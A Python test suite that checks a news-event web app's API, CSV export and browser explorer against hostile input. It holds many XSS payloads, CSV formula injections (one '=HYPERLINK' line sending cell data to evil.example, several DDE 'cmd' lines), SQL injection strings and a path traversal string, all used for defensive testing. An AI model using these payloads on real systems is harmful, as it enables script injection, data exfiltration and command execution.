"""Hostile text through the REST API, the CSV download and the explorer in Chromium.

A store of articles written for this test carries script payloads in every untrusted field at
once (title, text, outlet, URL, actor and recipient names, place, attribution, evidence); the
API must hand them back as data, the CSV download must not let a spreadsheet run them, and the
explorer must show them as text on every view (list, map, network, timeline, event page, whole
article): no script runs, no dialog opens, no element is made from them, no javascript: link.
Random query strings and paths never get a 500 or a stack trace.
"""
from __future__ import annotations

import csv
import io
import re
import time
from urllib.parse import quote

import pytest

pytest.importorskip("fastapi")

from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dotterel.model import Article
from dotterel.testing import actor, make_mention, partial_date, place
from dotterel.web import LOOPBACK_HOSTS, create_app

# each sets window.__xss (or opens a dialog) if it ever runs
PAYLOADS = [
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=2">',
    '"><svg onload=window.__xss=3>',
    "'><iframe srcdoc=\"<script>parent.__xss=4</script>\"></iframe>",
    '<a href="javascript:window.__xss=5">click</a>',
    "</title><script>window.__xss=6</script>",
    "<details open ontoggle=window.__xss=7>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=8>",
    "{{constructor.constructor('window.__xss=9')()}}",
    "${window.__xss=10}",
    "<body onload=alert(11)>",
    "\u202e<b onmouseover=window.__xss=12>gnp.exe</b>",
    "<style>*{background:url(javascript:window.__xss=13)}</style>",
    "<object data=\"data:text/html,<script>parent.__xss=14</script>\"></object>",
    "<input autofocus onfocus=window.__xss=15>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
URLS = ["javascript:window.__xss=20", "JaVaScRiPt:window.__xss=21", " javascript:window.__xss=22",
        "java\tscript:window.__xss=23", "data:text/html,<script>window.__xss=24</script>", "vbscript:msgbox(25)",
        "//evil.example/26", "https://news.example/ok?q=<script>window.__xss=27</script>"]
N_EVENTS = len(PAYLOADS)


def hostile_corpus() -> list[tuple[Article, list]]:
    """One article per payload, the payload in every field that comes from the news; the mention's
    evidence, actor, recipient and place are found in the article's text (offsets are real)."""
    from datetime import date, timedelta

    docs = []
    for n, payload in enumerate(PAYLOADS):
        day = (date(2023, 1, 1) + timedelta(days=10 * n)).isoformat()  # far apart: nothing merges
        country = ("NGA", "KEN", "MLI", "SEN", "GHA")[n % 5]
        name = f"{payload} Front"
        evidence = f"{name} attacked {payload} in Dellport{n} on Monday"
        text = f"{payload}\n\n{evidence}, {payload} said. <script>window.__xss=99</script>\n\nMore: {payload}"
        article = Article(doc_id=f"hostile-{n}", text=text, title=f"{payload} title {n}",
                          url=URLS[n % len(URLS)], published=day, outlet=f"{payload} Post")
        start = text.index(evidence)
        a_at = text.index(name, start)
        r_at = text.index(payload, text.index("attacked", start))
        p_at = text.index(f"Dellport{n}", start)
        mention = make_mention(
            article.doc_id, "ASSAULT" if n % 3 else "PROTEST", text=evidence, start=start,
            actor=actor(name, text=name, start=a_at, end=a_at + len(name), country=country, entity_id=f"front-{n}"),
            recipient=actor(payload, text=payload, start=r_at, end=r_at + len(payload), country=country),
            place=place(f"Dellport{n}", text=f"Dellport{n}", start=p_at, end=p_at + len(f"Dellport{n}"),
                        country=country, lat=9.0 + n / 10, lon=7.0 + n / 10),
            date=partial_date(day), attributed_to=payload, confidence=0.8)
        docs.append((article, [mention]))
    return docs


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    from dotterel.api import dedup_store
    from dotterel.dedup.syndication import fingerprint
    from dotterel.store import open_store

    path = tmp_path_factory.mktemp("hostile-web") / "hostile.duckdb"
    with open_store(path) as store:
        for article, mentions in hostile_corpus():
            store.put_article(article, mentions, coding_key="hostile", fingerprint=fingerprint(article.text))
        dedup_store(store)
    store = open_store(path, read_only=True)
    yield store
    store.close()


@pytest.fixture(scope="module")
def hclient(hostile_store):
    with TestClient(create_app(hostile_store), raise_server_exceptions=False) as c:
        yield c


def no_trace(response) -> None:
    assert "Traceback" not in response.text and 'File "' not in response.text, response.text[:500]


# -- the API hands the payloads back as data ---------------------------------------------------
def test_every_payload_comes_back_verbatim_as_json_data(hclient):
    page = hclient.get("/api/events", params={"limit": 1000})
    assert page.status_code == 200 and page.headers["content-type"].startswith("application/json")
    items = page.json()["items"]
    assert len(items) == N_EVENTS
    names = {e["actor"]["name"] for e in items} | {e["recipient"]["name"] for e in items}
    assert {f"{p} Front" for p in PAYLOADS} <= names and set(PAYLOADS) <= names
    for e in items:
        detail = hclient.get(f"/api/events/{e['event_id']}").json()
        (m,) = detail["mentions"]
        n = int(m["doc_id"].split("-")[1])
        assert m["article"]["title"] == f"{PAYLOADS[n]} title {n}" and m["article"]["url"] == URLS[n % len(URLS)]
        assert m["attributed_to"] == PAYLOADS[n]
        article = hclient.get(f"/api/articles/{m['doc_id']}").json()
        for span in m["spans"]:
            assert article["text"][span["start"]:span["end"]] == span["text"]
    for path in ("/api/actors", "/api/network", "/api/places", "/api/timeline", "/api/meta", "/api/mentions",
                 "/api/articles"):
        response = hclient.get(path)
        assert response.status_code == 200 and response.headers["content-type"].startswith("application/json")
        assert response.headers["x-content-type-options"] == "nosniff"


def test_no_response_but_the_explorer_page_is_html(hclient):
    for path in ("/api/events/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/api/articles/%3Cimg%20src%3Dx%3E",
                 "/api/%3Csvg%20onload%3Dalert(1)%3E", "/%3Cscript%3E", "/api/events?country=%3Cscript%3E"):
        response = hclient.get(path)
        assert not response.headers["content-type"].startswith("text/html"), path
        no_trace(response)


def test_the_csv_download_does_not_let_a_spreadsheet_run_a_formula(hclient):
    body = hclient.get("/api/events.csv").text
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == N_EVENTS
    cells = [v for row in rows for v in row.values() if v]
    assert not [v for v in cells if v[0] in "=+@\t\r" or (v[0] == "-" and not _number(v))], "formula cells"
    for payload in PAYLOADS[15:]:  # written with a quote before, and read back as they were
        assert any(c == "'" + payload + " Front" or c == "'" + payload for c in cells), payload
    from dotterel.exporters import csv as csv_export

    assert csv_export._value("actor_name", "'" + PAYLOADS[15]) == PAYLOADS[15]
    assert csv_export._cell("actor_name", "'quoted") == "''quoted"
    assert csv_export._cell("lat", -12.5) == "-12.5"  # numbers stay numbers


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


# -- random requests never reach a stack trace --------------------------------------------------
PARAMS = ("start_date", "end_date", "country", "event_type", "actor", "status", "min_confidence", "limit",
          "offset", "sort", "bucket", "by", "max_nodes")
PATHS = ("/api/events", "/api/events.csv", "/api/events.json", "/api/mentions", "/api/articles", "/api/actors",
         "/api/network", "/api/places", "/api/timeline", "/api/meta")
VALUES = st.one_of(st.text(max_size=40), st.sampled_from(["", "0", "-1", "1e309", "NaN", "inf", "2024-13-45",
                                                          "9" * 400, "' OR 1=1 --", "%00", "\x00", "ASSAULT,,",
                                                          "\ud7ff", "../../etc/passwd"]))


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(path=st.sampled_from(PATHS), params=st.dictionaries(st.sampled_from(PARAMS), VALUES, max_size=4),
       tail=st.one_of(st.none(), st.text(max_size=30)))
def test_random_requests_are_answered_without_a_trace(hclient, path, params, tail):
    if tail is not None:
        path = ("/api/events/" if len(tail) % 2 else "/api/articles/") + quote(tail, safe="")
    response = hclient.get(path, params=params)
    assert response.status_code in (200, 400, 404, 422), (path, params, response.status_code, response.text[:300])
    no_trace(response)
    if response.status_code != 200:
        body = response.json()
        assert set(body) <= {"error", "status", "detail"} and body["status"] == response.status_code


def test_sql_payloads_in_the_path_find_nothing_and_change_nothing(hclient):
    before = hclient.get("/api/meta").json()["n_events"]
    for payload in ("hostile-1' OR '1'='1", "hostile-1'; DROP TABLE articles; --", "' UNION SELECT text FROM articles --"):
        for prefix in ("/api/events/", "/api/articles/"):
            response = hclient.get(prefix + quote(payload, safe=""))
            assert response.status_code == 404 and "hostile-2" not in response.text
    assert hclient.get("/api/meta").json()["n_events"] == before == N_EVENTS


# -- the explorer, in Chromium ------------------------------------------------------------------
@pytest.mark.browser
@pytest.mark.slow
def test_no_payload_runs_in_the_explorer(hostile_store, tmp_path):
    from test_explorer_browser import ARGS, CHROMIUM

    if CHROMIUM is None:
        pytest.skip("Chromium is not installed (apt-get install chromium); the browser test needs it")
    sync_api = pytest.importorskip("playwright.sync_api", reason="the browser test needs playwright (the dev extra)")
    from dotterel.web import serve_in_thread

    problems: list[str] = []
    with serve_in_thread(create_app(hostile_store, allowed_hosts=LOOPBACK_HOSTS)) as base, \
            sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, timeout=30_000)
        page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
        page.set_default_timeout(15_000)
        page.on("console", lambda m: problems.append(f"console {m.type}: {m.text}") if m.type == "error" else None)
        page.on("pageerror", lambda e: problems.append(f"page error: {e}"))
        page.on("dialog", lambda d: (problems.append(f"dialog: {d.message}"), d.dismiss()))
        page.on("request", lambda r: None if r.url.startswith((base, "data:")) else problems.append(f"outside: {r.url}"))
        views = 0
        page.goto(base + "/")
        page.wait_for_selector("html[data-ready='overview']", state="attached")
        assert page.locator("#events tr.event-row").count() == N_EVENTS
        views += _check_page(page, problems)
        ids = [e.event_id for e in hostile_store.event_records()]
        for event_id in ids:
            page.goto(f"{base}/?event={event_id}")
            page.wait_for_selector("html[data-ready='event']", state="attached")
            for button in page.locator("button.more").all():
                button.click()  # the whole article, highlighted
            page.locator("article.mention h4").first.hover()
            views += _check_page(page, problems)
        page.goto(f"{base}/?actor={quote(PAYLOADS[0])}")
        page.wait_for_selector("html[data-ready='overview']", state="attached")
        views += _check_page(page, problems)
        page.screenshot(path=str(tmp_path / "hostile.png"), full_page=True)
        browser.close()
    assert views == N_EVENTS + 2
    assert problems == []
    print(f"payloads tried: {len(PAYLOADS) + len(URLS)} in {views} views; executed: 0")


def _check_page(page, problems: list[str]) -> int:
    time.sleep(0.1)  # let a deferred handler (onload, ontoggle, onfocus) fire if one was made
    assert page.evaluate("() => typeof window.__xss") == "undefined"
    made = page.evaluate("""() => [...document.querySelectorAll(
        'main script, main img, main svg image, main iframe, main object, main embed, main details, main input, '
        + 'main style, main math, body > script:not([src])')].map(e => e.outerHTML.slice(0, 80))""")
    assert made == [], made
    links = page.evaluate("() => [...document.querySelectorAll('a[href]')].map(a => a.href)")
    assert not [h for h in links if not re.match(r"^(https?:|about:blank)", h)], links
    handlers = page.evaluate("""() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]
        .filter(a => a.name.startsWith('on')).map(a => e.tagName + ' ' + a.name))""")
    assert handlers == [], handlers
    assert problems == [], problems
    return 1
